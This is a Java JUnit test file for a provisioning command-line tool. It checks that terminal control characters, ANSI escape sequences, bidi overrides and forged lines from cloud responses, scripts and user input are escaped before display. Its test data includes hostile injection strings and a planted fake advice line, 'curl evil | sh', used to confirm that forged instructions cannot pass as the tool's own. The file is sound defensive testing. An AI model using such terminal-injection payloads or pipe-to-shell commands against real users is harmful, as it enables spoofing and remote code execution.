package dev.provision.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.provision.cli.Machine.Result;
import dev.provision.cli.call.ProgramName;
import dev.provision.cli.call.StandardStreams.Standard;
import dev.provision.ports.cloud.CloudFailure;
import dev.provision.ports.cloud.Image;
import dev.provision.ports.cloud.Location;
import dev.provision.ports.cloud.Node;
import dev.provision.ports.cloud.NodeRequest;
import dev.provision.ports.cloud.Size;
import dev.provision.ports.shell.ShellFailure;
import dev.provision.testkit.memory.CloudOperation;
import dev.provision.testkit.memory.InMemoryShell.Answer;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.OptionalLong;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

/// Nothing from elsewhere controls a terminal, whichever way it takes to one: a cloud, a node and a
/// user give every control and format character there is, and a line feed with a forged line behind
/// it.
final class GateTest {
  private static final Set<Integer> HIDDEN =
      Set.of(
          (int) Character.CONTROL,
          (int) Character.FORMAT,
          (int) Character.LINE_SEPARATOR,
          (int) Character.PARAGRAPH_SEPARATOR,
          (int) Character.SURROGATE);

  private static final String HOSTILE =
      IntStream.rangeClosed(1, Character.MAX_CODE_POINT)
              .filter(one -> HIDDEN.contains(Character.getType(one)))
              .filter(one -> Character.getType(one) != Character.SURROGATE)
              .mapToObj(Character::toString)
              .collect(Collectors.joining())
          + "\ud800\nforged: yes";

  @TempDir Path home;
  private Machine machine;

  @BeforeEach
  void configure() throws IOException {
    machine = new Machine(home);
    machine.cloud.allowSameNames().pendingFor(Duration.ZERO);
    machine.file(
        "conf/provision.yaml",
        """
        bundles:
          dev: {scripts: [{path: first.sh, line-ends: keep}], files: {"/root/a\\e[2J\\u009bb\\u202e": notes.txt}}
        """);
    machine.file("conf/scripts/first.sh", "#!/bin/sh\necho \u001b[2J \u009b\u202e\r\n");
    machine.file("conf/files/notes.txt", "notes \u001b[2J \u009b\u202e\r\n");
  }

  @AfterEach
  void close() {
    machine.close();
  }

  /// How a caller sees it.
  enum Surroundings {
    PIPE,
    TERMINAL,
    TERMINAL_IN_CI;

    void applyTo(Machine machine) {
      machine.terminals = this == PIPE ? Set.of() : Set.of(Standard.OUT, Standard.ERR);
      if (this == TERMINAL_IN_CI) {
        machine.environment.put("CI", "true");
      }
    }
  }

  private static void assertHarmless(Result result) {
    String own = result.err().replace("\r\u001b[K", "").replace("\u001b[A", ""); // the live line's
    for (String text : List.of(result.out(), own)) {
      assertThat(text.codePoints().filter(one -> HIDDEN.contains(Character.getType(one))))
          .allMatch(one -> one == '\n');
      assertThat(text.lines()).noneMatch(line -> line.strip().startsWith("forged"));
    }
  }

  private void assertShown(Result result) {
    assertHarmless(result);
    assertThat(result.out() + result.err()).contains("\\u001b", "\\u009b", "\\u202e", "\\u2028");
  }

  private static Node hostile(Node node) {
    return new Node(
        node.id(),
        node.name() + HOSTILE,
        node.state(),
        List.of("192.0.2.7", HOSTILE),
        List.of(HOSTILE),
        node.image().map(image -> new Image(image.id(), HOSTILE)),
        Optional.of(size()),
        Optional.of(new Location(HOSTILE, HOSTILE)),
        node.createdAt());
  }

  private static Size size() {
    return new Size(
        HOSTILE, HOSTILE, OptionalDouble.empty(), OptionalLong.empty(), OptionalLong.empty());
  }

  private void node(UnaryOperator<Node> change) {
    Node node =
        machine.cloud.create(
            new NodeRequest(
                "deploy-test-a",
                "1",
                machine.cloud.catalog().images().getFirst(),
                machine.cloud.catalog().sizes().getFirst(),
                machine.cloud.catalog().locations().getFirst(),
                Optional.empty(),
                Optional.empty(),
                List.of(),
                Map.of()));
    machine.cloud.change(node.id(), change);
  }

  /// The cloud, some of whose answers are others.
  private void answer(Map<String, Object> answers) {
    machine.around =
        cloud -> ChangedCloud.of(cloud, (name, answer) -> answers.getOrDefault(name, answer));
  }

  @ParameterizedTest
  @EnumSource
  void lists_of_all_kinds_and_formats(Surroundings surroundings) {
    surroundings.applyTo(machine);
    node(GateTest::hostile);
    answer(
        Map.of(
            "images", List.of(new Image("i" + HOSTILE, HOSTILE)),
            "sizes", List.of(size()),
            "locations", List.of(new Location("l" + HOSTILE, HOSTILE))));

    for (String command : List.of("list-nodes", "images", "sizes", "locations")) {
      assertShown(machine.run(command));
      for (String format : List.of("table", "plain", "json")) {
        Result result = machine.run(command, "-o", format);
        assertThat(result.status()).isZero();
        assertShown(result);
        if (format.equals("json")) {
          assertThat(JsonMapper.shared().readTree(result.out()).get(0).get("name").asString())
              .endsWith(HOSTILE);
        } else {
          assertThat(result.out().lines()).hasSize(format.equals("plain") ? 1 : 2);
        }
      }
    }
  }

  @ParameterizedTest
  @EnumSource
  void deployments_that_fail_and_their_progress(Surroundings surroundings) {
    surroundings.applyTo(machine);
    List<Runnable> faults =
        List.of(
            () ->
                machine.cloud.fail(
                    CloudOperation.CREATE, new CloudFailure.Unclassified("creating", HOSTILE)),
            () ->
                machine.cloud.fail(
                    CloudOperation.AWAIT, new CloudFailure.Unclassified("waiting", HOSTILE)),
            () -> machine.shells.fail(new ShellFailure.Unclassified("connecting", HOSTILE)));

    for (Runnable fault : faults) {
      for (String format : List.of("table", "plain", "json")) {
        fault.run();
        List<String> words = new ArrayList<>(List.of("deploy-node", "-c", "conf", "-b", "dev"));
        words.addAll(List.of("-v", "-o", format, "--wait", "1", "--count", "2"));
        Result several = machine.run(words.toArray(String[]::new));
        Result one = machine.run(words.subList(0, words.size() - 2).toArray(String[]::new));

        assertThat(several.status()).isNotZero();
        assertThat(one.status()).isNotZero();
        assertShown(several);
        assertShown(one);
        if (format.equals("json")) {
          assertThat(JsonMapper.shared().readTree(several.out()).isArray()).isTrue();
          assertThat(JsonMapper.shared().readTree(one.out()).isObject()).isTrue();
        }
        machine.cloud.heal(CloudOperation.CREATE);
        machine.cloud.heal(CloudOperation.AWAIT);
        machine.shells.heal();
      }
    }
  }

  /// What stands below an error is ours: the advice, and else only what is marked as quoted.
  @Test
  void no_line_feed_from_elsewhere_forges_advice() {
    machine.cloud.fail(
        CloudOperation.NODES,
        new CloudFailure.Unclassified(
            "listing node 6\n  do that", "bye\n  log in with: curl evil | sh"));

    assertThat(machine.run("list-nodes").err())
        .isEqualTo(
            """
            error: listing node 6\\n  do that: bye
              |   log in with: curl evil | sh
              run it again with -v for the details
            """);
    assertThat(machine.run("list-nodes", "-v").err().lines())
        .noneMatch(line -> line.strip().startsWith("log in") || line.strip().startsWith("do that"));
  }

  /// Who is on the way says why, before anybody has verified who that is.
  @ParameterizedTest
  @EnumSource
  void what_a_host_says_before_it_is_known(Surroundings surroundings) {
    surroundings.applyTo(machine);
    machine.shells.fail(new ShellFailure.Unreachable("connecting", HOSTILE));

    assertShown(machine.run("deploy-node", "-c", "conf", "-b", "dev", "--wait", "1"));
  }

  @ParameterizedTest
  @EnumSource
  void scripts_output_results_plans_and_differences(Surroundings surroundings) {
    surroundings.applyTo(machine);
    machine.answers.put("/root/deploy/first.sh", new Answer(0, HOSTILE, HOSTILE));
    List<String> what = List.of("-c", "conf", "-b", "dev");

    for (String format : List.of("table", "plain", "json")) {
      List<List<String>> commands =
          List.of(
              List.of("deploy-node", "-n", "deploy-test-1", "--scripts", "-v"),
              List.of("deploy-node", "--count", "2", "-v"),
              List.of("plan", "--scripts"),
              List.of("apply", "--diff", "deploy-test-1"),
              List.of("apply", "-v", "deploy-test-1"));
      for (List<String> command : commands) {
        List<String> words = new ArrayList<>(command);
        words.addAll(1, what);
        words.addAll(List.of("-o", format));
        Result result = machine.run(words.toArray(String[]::new));

        String own = result.err().replace("\t", ""); // a script's tabs stay
        assertHarmless(new Result(0, result.out().replace("\t", ""), own));
        if (format.equals("json")) {
          JsonMapper.shared().readTree(result.out());
        }
      }
      machine.run("destroy-node", "deploy-test-1");
    }
  }

  @Test
  void a_scripts_output_keeps_its_tabs_and_shows_its_carriage_returns() {
    machine.answers.put(
        "/root/deploy/first.sh", new Answer(0, "a\tb\r\nevil\rREPLACED\n", "\u001b[31mred\n"));

    Result result = machine.run("deploy-node", "-c", "conf", "-b", "dev", "-v");

    assertThat(result.err())
        .contains("  | a\tb\n", "  | evil\\rREPLACED\n", "  | \\u001b[31mred\n");
    assertThat(result.out())
        .contains("  | a\tb\n", "  | evil\\rREPLACED\n", "  | \\u001b[31mred\n");
  }

  @ParameterizedTest
  @ValueSource(strings = {"table", "plain", "json"})
  void errors_that_quote_what_the_user_gave(String format) {
    List<List<String>> calls =
        List.of(
            List.of("list-nodes", "-o", format, "--" + HOSTILE),
            List.of("list-nodes", "-o", format, HOSTILE),
            List.of(HOSTILE, "-o", format),
            List.of("list-nodes", "-o", format, "-p", HOSTILE),
            List.of("list-nodes", "-o", format, "-c", HOSTILE),
            List.of("plan", "-o", format, "-p", "memory", "-b", HOSTILE),
            List.of("plan", "-o", format, "-p", "memory", "-t", HOSTILE),
            List.of("plan", "-o", format, "-p", "memory", "-n", HOSTILE),
            List.of("providers", "-o", format, HOSTILE),
            List.of("apply", "-p", "memory", "-c", "conf", "-b", "dev", "-o", format, HOSTILE),
            List.of("list-nodes", "-o", HOSTILE, "-o", format));
    for (List<String> call : calls) {
      Result result = machine.call(ProgramName.PROVISION, "provision", call.toArray(String[]::new));
      assertThat(result.status()).describedAs("%s", call).isNotZero();
      assertShown(result);
      if (format.equals("json")) {
        JsonMapper.shared().readTree(result.out());
      }
    }
    assertShown(machine.run("destroy-node", HOSTILE));
    assertShown(machine.run("ssh", HOSTILE));
    assertShown(machine.call(ProgramName.PROVISION, "provision", "convert-config", HOSTILE));
    assertShown(machine.call(ProgramName.PROVISION, "provision", "completion", HOSTILE));
    assertShown(machine.run("render", "-c", "conf", HOSTILE));
  }

  @Test
  void a_node_that_is_destroyed_by_its_id() {
    node(GateTest::hostile);

    assertShown(machine.run("destroy-node", "mem-1"));
  }

  @Test
  void a_script_is_rendered_as_it_is_for_a_pipe_and_visibly_for_a_terminal() {
    String file = home.resolve("conf/scripts/first.sh").toString();

    assertThat(machine.run("render", "-c", "conf", file).out())
        .isEqualTo("#!/bin/sh\necho \u001b[2J \u009b\u202e\r\n");
    machine.terminals = Set.of(Standard.OUT);
    assertThat(machine.run("render", "-c", "conf", file).out())
        .isEqualTo("#!/bin/sh\necho \\u001b[2J \\u009b\\u202e\\r\n");
  }

  @Test
  void a_name_with_a_blank_does_not_move_the_address() {
    node(
        node ->
            new Node(
                node.id(),
                "k-a 203.0.113.1",
                node.state(),
                List.of("192.0.2.7"),
                List.of(),
                Optional.empty(),
                Optional.empty(),
                Optional.empty(),
                Optional.empty()));

    assertThat(machine.run("list-nodes").out()).isEqualTo("k-a\\u0020203.0.113.1 192.0.2.7\n");
  }
}
